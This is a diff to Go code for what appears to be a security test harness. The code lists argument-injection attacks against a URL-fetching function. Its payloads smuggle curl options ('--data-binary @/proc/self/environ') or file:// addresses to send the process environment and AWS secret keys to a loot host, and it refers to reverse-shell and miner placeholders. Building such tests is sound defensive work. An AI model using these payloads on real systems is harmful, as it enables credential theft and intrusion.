@@ -64,7 +64,7 @@ var Attacks = []Attack{
 	{Name: "variable-in-address", Wants: "the credentials, without any metacharacter but $", Loot: "secret key",
 		shell: "@SITE@/loot?$AWS_SECRET_ACCESS_KEY", proof: Secret, arrives: true},
 	{Name: "option-smuggling", Wants: "the environment, uploaded by the function's own downloader", Loot: "secret key",
-		shell: "@SITE@/loot @UPLOAD@", proof: Secret, arrives: true},
+		shell: "@SITE@/loot --data-binary @/proc/self/environ", proof: Secret, arrives: true, curlOnly: true},
 	{Name: "file-address", Wants: "the environment, as a local document", Loot: "secret key",
 		shell: "file:///proc/self/environ", proof: Secret, curlOnly: true},
 	{Name: "child-environ", Wants: "the function's environment, read by a child", Loot: "secret key",
@@ -189,19 +189,11 @@ func (s *arsenal) fill(text string) string {
 		"@SOURCE@", s.host.source(),
 		"@SHELL@", s.reverseShell(),
 		"@GET@", s.host.Fetch,
-		"@UPLOAD@", s.upload(),
 		"@PORT@", port,
 		"@PROGRAM@", s.program,
 		"@MINER@", s.miner,
 		"@LIBRARY@", s.library,
 	).Replace(text)
-}
-
-func (s *arsenal) upload() string {
-	if s.host.fetcherName() == "curl" {
-		return "--data-binary @/proc/self/environ"
-	}
-	return "--post-file=/proc/self/environ"
 }
 
 // reverseShell connects a shell to the listener by whatever can: bash, or else the function's own interpreter.
